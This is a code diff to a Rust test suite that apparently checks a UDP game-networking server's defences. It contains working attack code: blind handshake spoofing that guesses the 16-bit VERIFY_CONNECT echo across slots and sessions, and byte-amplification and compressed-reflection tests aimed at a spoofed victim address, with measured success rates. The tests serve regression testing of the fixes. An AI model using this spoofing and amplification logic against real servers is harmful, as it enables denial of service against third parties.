@@ -858,9 +858,10 @@ pub fn defence_off(ctx: &Ctx) -> Outcome {
 }
 
 /// ACKs of VERIFY_CONNECT (reliable command 1 on channel 0xFF) echoing each of `echoes`, all in
-/// one datagram to `slot` (session 0: the CONNECTs here carry peer id 0xFFF, so none is checked).
-fn guesses(slot: u16, echoes: impl Iterator<Item = u16>) -> Vec<u8> {
-    let mut d = wire::header(slot, 0, 0, None);
+/// one datagram to `slot` with `session` (a blind attacker tries each of the 4: the server
+/// ignores CONNECTs with peer id 0xFFF, which would need none, under the defence).
+fn guesses(slot: u16, session: u8, echoes: impl Iterator<Item = u16>) -> Vec<u8> {
+    let mut d = wire::header(slot, session, 0, None);
     for e in echoes {
         d.extend(wire::ack(0xFF, 1, e));
     }
@@ -872,9 +873,9 @@ fn guesses(slot: u16, echoes: impl Iterator<Item = u16>) -> Vec<u8> {
 /// guesses (3% of the space) where a half-open peer allows 4. First deterministically (we own
 /// the address and see the offer): one datagram of 100 wrong echoes and then the right one
 /// completes the handshake. Then blind, as an off-path attacker: forged CONNECTs (new connect
-/// ID each, peer id 0xFFF so no session is needed) from a "victim" address whose answers are
-/// never read, each followed by 4 datagrams of 511 guesses to every slot; a handshake for the
-/// victim's address completes after ~32 CONNECTs on average.
+/// ID each) from a "victim" address whose answers are never read, each followed by 4 datagrams of
+/// 511 guesses to every slot and session; a handshake for the victim's address completed after
+/// ~32 CONNECTs on average.
 /// (Fixed: every wrong echo counts, so 50 blind CONNECTs have 200 guesses, a 0.3% chance.)
 pub fn record_guesses(ctx: &Ctx) -> Outcome {
     let stop = StopFile::new(ctx, "guesses");
@@ -883,13 +884,14 @@ pub fn record_guesses(ctx: &Ctx) -> Outcome {
 
     // Deterministic: 100 wrong echoes and the right one in one datagram.
     let c = Raw::new(42, addr)?;
-    c.send(&connect_datagram(wire::NO_PEER, 0xD1, 1));
+    c.send(&connect_datagram(0, 0xD1, 1));
     let Some(&offer) = offers(&c.collect(200)).first() else {
         return Err("no VERIFY_CONNECT under pressure".into());
     };
     let wrong = (1..=100u16).map(|i| offer.sent_time.wrapping_add(i));
     c.send(&guesses(
         offer.slot,
+        offer.session,
         wrong.chain(std::iter::once(offer.sent_time)),
     ));
     std::thread::sleep(Duration::from_millis(200));
@@ -902,13 +904,15 @@ pub fn record_guesses(ctx: &Ctx) -> Outcome {
     let mut next = 0u32; // guesses cycle through the space
     while forged < 50 && started.elapsed() < Duration::from_secs(6) {
         forged += 1;
-        victim.send(&connect_datagram(wire::NO_PEER, 0xB000 + forged, 1));
+        victim.send(&connect_datagram(0, 0xB000 + forged, 1));
         std::thread::sleep(Duration::from_millis(2));
         for _ in 0..4 {
             let echoes: Vec<u16> = (0..per as u32).map(|i| (next + i) as u16).collect();
             next = next.wrapping_add(per as u32);
             for slot in 0..4 {
-                victim.send(&guesses(slot, echoes.iter().copied()));
+                for session in 0..4 {
+                    victim.send(&guesses(slot, session, echoes.iter().copied()));
+                }
             }
             std::thread::sleep(Duration::from_millis(1));
         }
@@ -983,14 +987,14 @@ pub fn record_duplicate_peers(ctx: &Ctx) -> Outcome {
 
 /// Byte amplification towards an address that never completes a handshake: every datagram to
 /// the offered slot from a record's (or an unverified peer's) address is answered with the
-/// 48-byte VERIFY_CONNECT, and a datagram of 2 bytes (the header's peer id alone; with peer id
-/// 0xFFF in the CONNECT there is no session to know) counts. A spoofer that sends one CONNECT
+/// 48-byte VERIFY_CONNECT, and a datagram of 2 bytes (the header's peer id and session alone,
+/// which the spoofer, who reads the answers here, knows) counts. A spoofer that sends one CONNECT
 /// (52 bytes) and 7 two-byte datagrams to the victim's address gets 8 x 48 = 384 bytes sent
 /// there, 5.8 times what it sent (per new connect ID, without end); both paths. The bound here:
 /// at most 3 times the bytes received from the address.
 pub fn answer_amplification(ctx: &Ctx) -> Outcome {
     amplification(ctx, "amplification", &[], 70, None, |n| {
-        Ok(connect_datagram(wire::NO_PEER, 0xA000 + n as u32, 1))
+        Ok(connect_datagram(0, 0xA000 + n as u32, 1))
     })
 }
 
@@ -1021,7 +1025,7 @@ pub fn compressed_reflection(ctx: &Ctx) -> Outcome {
     };
     let env = [("ENET_COMPRESS", "1".to_string())];
     amplification(ctx, "compressed", &env, 90, Some(&coder), |n| {
-        let plain = connect_datagram(wire::NO_PEER, 0xC000 + n as u32, 1);
+        let plain = connect_datagram(0, 0xC000 + n as u32, 1);
         // The CONNECT command and zeros up to a full receive buffer (the zeros end the
         // datagram's commands: command number 0 has no size).
         let mut body = plain[4..].to_vec();
@@ -1116,7 +1120,7 @@ fn amplification(
         };
         let mut sent = connect.len();
         for _ in 0..10 {
-            let tiny = wire::header(offer.slot, 0, 0, None);
+            let tiny = wire::header(offer.slot, offer.session, 0, None);
             sent += tiny.len();
             victim.send(&tiny);
             got.extend(victim.collect(30));
@@ -1141,8 +1145,8 @@ fn amplification(
 }
 
 /// A blind attacker's rate: each forged CONNECT with a new connect ID (from the same address and
-/// port, peer id 0xFFF so no session) replaces the address's record and brings 4 fresh guesses of
-/// the 16-bit echo, and a server under pressure with one free slot offers that slot every time.
+/// port) gets a new handshake with 4 fresh guesses of the 16-bit echo (tried under every
+/// session), and a server under pressure with one free slot offers that slot every time.
 /// So ~16,384 attempts of two datagrams completed a handshake for an address the attacker does
 /// not control in a few seconds on loopback, until wrong echoes were counted per source IP
 /// (16 per 10 s): now no handshake completes.
@@ -1157,9 +1161,11 @@ pub fn blind_rate(ctx: &Ctx) -> Outcome {
     while started.elapsed() < Duration::from_secs(8) {
         for _ in 0..200 {
             attempts += 1;
-            victim.send(&connect_datagram(wire::NO_PEER, 0x10_0000 + attempts, 1));
+            victim.send(&connect_datagram(0, 0x10_0000 + attempts, 1));
             let base = (attempts as u16).wrapping_mul(4);
-            victim.send(&guesses(1, (0..4).map(|i| base.wrapping_add(i))));
+            for session in 0..4 {
+                victim.send(&guesses(1, session, (0..4).map(|i| base.wrapping_add(i))));
+            }
         }
         std::thread::sleep(Duration::from_millis(3));
         // the victim's socket is drained, never read
@@ -1671,7 +1677,7 @@ pub fn record_chain(ctx: &Ctx) -> Outcome {
             ctx.seed_for("chain-holder"),
             move |_| {
                 n += 1;
-                connect_datagram(wire::NO_PEER, 0x6100_0000 + n, 1)
+                connect_datagram(0, 0x6100_0000 + n, 1)
             },
         )?);
         std::thread::sleep(Duration::from_millis(200));
@@ -1684,10 +1690,11 @@ pub fn record_chain(ctx: &Ctx) -> Outcome {
             move |_| {
                 k += 1;
                 if k % 2 == 1 {
-                    connect_datagram(wire::NO_PEER, 0x6200_0000 + k, 1)
+                    connect_datagram(0, 0x6200_0000 + k, 1)
                 } else {
                     // "the client left": a DISCONNECT to the offered slot (0) ends the record
-                    let mut d = wire::header(0, 0, 0, None);
+                    // (blind: the session is one of four)
+                    let mut d = wire::header(0, (k / 2 % 4) as u8, 0, None);
                     d.extend(wire::command(
                         wire::DISCONNECT | wire::FLAG_UNSEQUENCED,
                         0xFF,
